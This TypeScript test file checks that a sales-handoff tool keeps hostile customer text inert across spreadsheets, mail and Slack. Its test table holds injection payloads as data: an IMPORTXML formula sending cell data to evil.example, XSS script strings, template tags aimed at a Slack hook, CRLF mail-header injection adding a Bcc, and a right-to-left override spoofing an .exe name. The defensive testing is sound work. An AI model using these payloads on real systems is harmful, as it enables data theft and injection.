import type { Workspace } from '../../local/workspace/kernel/workspace';
import { fork, readyToWin, win } from '../simulation/handoff';
import { at, bookOf, broken, CUSTOMER, filesOf, formulas, mailsTo, problems, put } from './desk';

let ready: Workspace;
beforeAll(() => {
  ready = readyToWin(2);
});

/** What mail programs make markup of. */
const pages = (workspace: Workspace): string => workspace.state.mail.messages.map(({ html }) => html).join('\n');
const words = (workspace: Workspace): string =>
  workspace.state.mail.messages.map(({ subject, text, html }) => `${subject}\n${text}\n${html}`).join('\n');
/** The one address of a To line, after whatever name stands before it. */
const addressIn = (to: string): string => /<([^<>]*)>$/.exec(to)?.[1] ?? to;
/** The formulas that Baton writes: a link with quoted text, and those of set-up on tabs that hold no customer's text. */
const isOurs = (formula: string): boolean =>
  /^(Pipeline: =HYPERLINK\("(https:\/\/docs\.google\.com\/[^"]*"|#gid=)|Settings: |Metrics: )/.test(formula);

describe.each([
  ['a formula', '=IMPORTXML("https://evil.example/?"&A1,"//a")'],
  ['HTML', '<img src=x onerror=alert(1)><script>alert(2)</script>'],
  ['template tags', '{{settings.hook_slack}}{{#each deal}}{{this}}{{/each}}'],
  ['Markdown', '[click](https://evil.example) ![p](https://evil.example/p.png) **bold**'],
  ['a mention in chat', '<!channel> <https://evil.example|here>'],
  ['mail headers', 'Mila\r\nBcc: bob@evil.example\r\nContent-Type: text/html\r\n\r\n<b>hi'],
  ['emoji and right-to-left text with an override', 'عميل 🧑‍🚀 \u202egnp.exe'],
])('%s in every field', (_name, text) => {
  it('stays text everywhere', () => {
    const workspace = fork(ready);
    put(workspace, 'Pipeline', 2, 'Company', `${text} GmbH`);
    put(workspace, 'Pipeline', 2, 'Contact', text);
    put(workspace, 'Pipeline', 2, 'Source ID', text);
    for (const header of ['Pains', 'Primary goal', 'Success metric', 'Immediate action'])
      put(workspace, 'Intake', 2, header, `Something real: ${text}`);
    put(workspace, 'People', 2, 'Deal ID', String(at(workspace, 'Pipeline', 2, 'Deal ID')));
    put(workspace, 'People', 2, 'Name', text);

    win(workspace, 2, [], 0.5);

    expect([broken(workspace), problems(workspace)]).toEqual([[], []]);
    expect(formulas(workspace).filter((formula) => !isOurs(formula))).toEqual([]);
    expect(formulas(workspace).join('\n')).not.toContain('evil.example');
    expect(at(workspace, 'Pipeline', 2, 'Company')).toBe(`${text} GmbH`);
    expect(mailsTo(workspace, CUSTOMER).map(({ to }) => addressIn(to))).toEqual([CUSTOMER]);
    for (const mail of workspace.state.mail.messages) {
      expect(addressIn(mail.to)).toMatch(/^[a-z]+@(northwind|harborlight)\.example$/);
      expect([mail.cc, mail.bcc]).toEqual(['', '']);
      expect(mail.subject).not.toMatch(/[\r\n]/);
      expect(Object.keys(mail.headers).join()).not.toMatch(/bcc|content-type/i);
    }
    expect(pages(workspace)).not.toMatch(/<(img src=x|script|b>hi)/i);
    expect(pages(workspace)).not.toMatch(/(href|src)="https:\/\/evil/i);
    expect(words(workspace)).not.toContain('hooks.slack.com');
    expect(words(workspace)).not.toContain('\u202e');
    const note = workspace.state.requests.find(({ url }) => url.includes('slack'))!;
    expect(note.body).not.toMatch(/<!channel>|<https:\/\/evil/);
    expect(filesOf(workspace, 'handoff-')).toHaveLength(1);
    expect(JSON.stringify(workspace.state.docs)).not.toContain('hooks.slack.com');
  });
});

it('takes what a person typed as a formula by its value, and leaves the formula alone', () => {
  const workspace = fork(ready);
  const cells = bookOf(workspace).sheets.find(({ name }) => name === 'Pipeline')!.rows[1]!;
  cells[1] = { f: '="Harbor"&"light"', v: 'Harborlight' };

  win(workspace, 2, [], 0.5);

  expect(mailsTo(workspace, CUSTOMER)).toHaveLength(1);
  expect(cells[1].f).toBe('="Harbor"&"light"');
});
